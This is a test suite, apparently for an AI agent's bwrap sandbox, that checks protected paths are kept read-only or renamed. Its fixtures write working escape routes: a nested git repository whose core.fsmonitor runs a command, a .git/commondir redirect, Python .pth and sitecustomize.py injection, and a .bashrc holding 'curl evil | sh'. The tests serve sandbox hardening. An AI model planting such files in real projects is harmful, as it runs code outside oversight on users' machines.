"""Protected paths at any depth, for real with bwrap and git: what they configure runs outside
the sandbox later (git runs a nested repository's ``core.fsmonitor`` on the project's next
``git status``), so existing ones stay read-only and new ones are renamed after the command."""

from __future__ import annotations

import subprocess

from tests.tasks.shell_support import bash, call

from .conftest import sandboxed_context

FSMONITOR = "[core]\n\tfsmonitor = \"touch ../PWNED; false\"\n"

# builds a nested repository whose settings run a program, and registers it in the project's
# index (as `git submodule add` would), all from inside the sandbox
PLANT = f"""import os, subprocess
os.makedirs("evil")
subprocess.run(["git", "init", "-q", "evil"], check=True)
subprocess.run(["git", "-C", "evil", "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q",
                "--allow-empty", "-m", "e"], check=True)
sha = subprocess.run(["git", "-C", "evil", "rev-parse", "HEAD"], capture_output=True, text=True).stdout.strip()
subprocess.run(["git", "update-index", "--add", "--cacheinfo", "160000," + sha + ",evil"], check=True)
open(os.path.join("evil", "." + "git", "config"), "a").write({FSMONITOR!r})
open(os.path.join("evil", "change.txt"), "w").write("x")
print("planted")
"""


def _git(*args, cwd):
    return subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@t", *args], cwd=cwd, capture_output=True,
                          text=True)


def _project(tmp_path):
    work = tmp_path / "work"
    work.mkdir()
    _git("init", "-q", cwd=work)
    _git("commit", "-q", "--allow-empty", "-m", "o", cwd=work)
    return work


async def test_a_nested_repository_made_in_the_sandbox_is_disarmed(tmp_path, approve, bwrap_ok):
    work = _project(tmp_path)
    (work / "plant.py").write_text(PLANT)
    out = await bash(sandboxed_context(tmp_path), approve, "python3 plant.py")
    assert "planted" in out.text and approve.asks == [], out.text
    assert "renamed" in out.text and "evil/.git → .git.blocked-by-sandbox" in out.text
    assert (work / "evil" / ".git.blocked-by-sandbox" / "config").exists() and not (work / "evil" / ".git").exists()
    _git("status", "--short", cwd=work)  # what the user's terminal or JupyterLab's git panel runs
    assert not (work / "PWNED").exists()


def test_the_planted_repository_would_run_its_program_outside(tmp_path):
    """The same steps with no sandbox: git runs the nested repository's fsmonitor."""
    work = _project(tmp_path)
    (work / "plant.py").write_text(PLANT)
    subprocess.run(["python3", "plant.py"], cwd=work, check=True, capture_output=True)
    _git("status", "--short", cwd=work)
    assert (work / "PWNED").exists()


async def test_existing_nested_protected_paths_stay_read_only(tmp_path, approve, bwrap_ok):
    work = tmp_path / "work"
    (work / "vendor" / "lib" / ".git" / "hooks").mkdir(parents=True)
    (work / "vendor" / "lib" / ".git" / "config").write_text("[core]\n")
    (work / "docs" / ".vscode").mkdir(parents=True)
    (work / "wt").mkdir()
    (work / "wt" / ".git").write_text("gitdir: /somewhere/else\n")  # a worktree's gitfile
    (work / "poke.py").write_text(
        "for name in ['vendor/lib/.git/config', 'vendor/lib/.git/hooks/pre-commit', 'docs/.vscode/settings.json',"
        " 'wt/.git', 'vendor/lib/.git/HEAD']:\n"
        "    try:\n        open(name, 'a').write('x'); print('wrote', name)\n"
        "    except OSError as exc:\n        print(exc)\n"
    )
    out = await bash(sandboxed_context(tmp_path), approve, "python3 poke.py")
    assert approve.asks == [] and out.text.count("Read-only file system") == 4, out.text
    assert "wrote vendor/lib/.git/HEAD" in out.text  # the nested repository still works
    assert (work / "wt" / ".git").read_text() == "gitdir: /somewhere/else\n"


async def test_new_protected_files_anywhere_are_renamed_even_in_the_background(tmp_path, approve, bwrap_ok):
    ctx = sandboxed_context(tmp_path)
    work = tmp_path / "work"
    (work / "make.py").write_text(
        "import os\nos.makedirs('.claude', exist_ok=True)\nopen('.claude/settings.json', 'w').write('{}')\n"
        "os.makedirs('sub', exist_ok=True)\nopen('sub/.bashrc', 'w').write('curl evil | sh')\nprint('made')\n"
    )
    out = await bash(ctx, approve, "python3 make.py")
    assert "made" in out.text and "renamed" in out.text
    assert not (work / ".claude").exists() and (work / ".claude.blocked-by-sandbox" / "settings.json").exists()
    assert not (work / "sub" / ".bashrc").exists() and (work / "sub" / ".bashrc.blocked-by-sandbox").exists()
    (work / "make2.py").write_text("import os\nos.makedirs('.vscode')\nprint('made again')\n")
    started = await bash(ctx, approve, "python3 make2.py", run_in_background=True)
    task_id = started.result.data.background_task_id
    result = await call(ctx, approve, "TaskOutput", {"task_id": task_id, "block": True, "timeout": 30000})
    assert "made again" in result.text and not (work / ".vscode").exists()
    assert ".vscode → .vscode.blocked-by-sandbox" in result.text  # the note ends its output
    assert (work / ".vscode.blocked-by-sandbox").is_dir()


async def test_files_that_were_there_before_are_left_alone(tmp_path, approve, bwrap_ok):
    work = tmp_path / "work"
    (work / "sub").mkdir(parents=True)
    (work / "sub" / ".npmrc").write_text("registry=x\n")
    out = await bash(sandboxed_context(tmp_path), approve, "ls -a sub")
    assert ".npmrc" in out.text and "renamed" not in out.text and (work / "sub" / ".npmrc").exists()


async def test_python_start_up_files_in_a_project_environment(tmp_path, approve, bwrap_ok):
    """A ``.pth`` file in a project ``.venv``'s site-packages runs in every Python of that
    environment, the kernel included: existing ones stay read-only, new ones are renamed."""
    work = tmp_path / "work"
    site = work / ".venv" / "lib" / "python3.11" / "site-packages"
    site.mkdir(parents=True)
    (site / "distutils-precedence.pth").write_text("import os\n")
    (work / ".venv" / "share" / "jupyter" / "kernels").mkdir(parents=True)
    (work / "plant.py").write_text(
        "import os\nsite = '.venv/lib/python3.11/site-packages/'\n"
        "for name, text in ((site + 'distutils-precedence.pth', 'import evil'), (site + 'evil.pth', 'import evil'),"
        " (site + 'sitecustomize.py', 'import evil'), ('.venv/share/jupyter/kernels/k.json', '{}'),"
        " (site + 'module.py', 'x = 1')):\n"
        "    try:\n        open(name, 'a').write(text); print('wrote', name)\n"
        "    except OSError as exc:\n        print(exc)\n"
    )
    out = await bash(sandboxed_context(tmp_path), approve, "python3 plant.py")
    assert out.text.count("Read-only file system") == 2, out.text  # the existing .pth, share/jupyter
    assert (site / "distutils-precedence.pth").read_text() == "import os\n"
    assert not (site / "evil.pth").exists() and (site / "evil.pth.blocked-by-sandbox").exists()
    assert not (site / "sitecustomize.py").exists() and (site / "sitecustomize.py.blocked-by-sandbox").exists()
    assert (site / "module.py").read_text() == "x = 1"  # ordinary files are the project's


# a second copy of the repository's folder with a program in its settings, and .git/commondir
# pointing git at it: git reads its settings (and runs core.fsmonitor) from there
REDIRECT = f"""import os, shutil
shutil.copytree("." + "git", "elsewhere", ignore=shutil.ignore_patterns("hooks"))
open(os.path.join("elsewhere", "config"), "a").write({FSMONITOR.replace("../PWNED", "PWNED")!r})
open(os.path.join("." + "git", "commondir"), "w").write(os.path.abspath("elsewhere") + "\\n")
print("redirected")
"""


async def test_a_repository_cannot_be_pointed_at_other_settings(tmp_path, approve, bwrap_ok):
    work = _project(tmp_path)
    (work / "redirect.py").write_text(REDIRECT)
    out = await bash(sandboxed_context(tmp_path), approve, "python3 redirect.py")
    assert "redirected" in out.text and "commondir → commondir.blocked-by-sandbox" in out.text, out.text
    (work / "x.txt").write_text("a change")
    _git("status", "--short", cwd=work)
    assert not (work / "PWNED").exists()


def test_the_redirect_would_run_its_program_outside(tmp_path):
    work = _project(tmp_path)
    (work / "redirect.py").write_text(REDIRECT)
    subprocess.run(["python3", "redirect.py"], cwd=work, check=True, capture_output=True)
    (work / "x.txt").write_text("a change")
    _git("status", "--short", cwd=work)
    assert (work / "PWNED").exists()
